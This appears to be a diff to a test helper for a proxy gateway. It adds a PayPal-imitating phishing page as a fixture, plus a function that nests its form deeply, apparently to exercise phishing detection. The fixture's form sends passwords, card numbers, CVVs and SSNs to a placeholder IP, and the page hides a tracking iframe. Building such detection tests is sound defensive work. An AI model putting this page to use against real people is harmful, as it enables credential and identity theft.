@@ -26,7 +26,7 @@ from typing import Any
 from urllib.parse import urlencode
 
 import brotli
-from support_ports import free_port
+from helpers.ports import free_port
 
 REPO = Path(__file__).resolve().parents[2]
 SHIM = REPO / "addon" / "mitmdump_entry.py"
@@ -418,3 +418,22 @@ def start_gateway(tmp: Path, upstream_cert: Path, *, options: list[str], config_
         gw.stop()
         raise
     return gw
+
+
+PHISH = b"""<!DOCTYPE html><html><head><title>PayPal: Log in to your account</title></head><body>
+<div class="logo">PayPal</div><h1>Your account has been limited</h1>
+<p>We noticed unusual activity. Verify your account information to restore access. Confirm your identity now.</p>
+<form action="http://198.51.100.23/paypal/login.php" method="post">
+<input type="email" name="login_email" placeholder="Email">
+<input type="password" name="login_password" placeholder="Password">
+<input type="text" name="cc_number" placeholder="Card number"><input type="text" name="cvv" placeholder="CVV">
+<input type="text" name="ssn" placeholder="Social Security Number">
+<button type="submit">Log In</button></form>
+<iframe src="http://198.51.100.23/track" width="0" height="0" style="display:none"></iframe>
+</body></html>"""
+
+
+def deep(page: bytes, levels: int) -> bytes:
+    """The page with its form nested ``levels`` <div>s deep."""
+    return page.replace(b"<form", b"<div>" * levels + b"<form").replace(b"</body>", b"</div>" * levels + b"</body>")
+
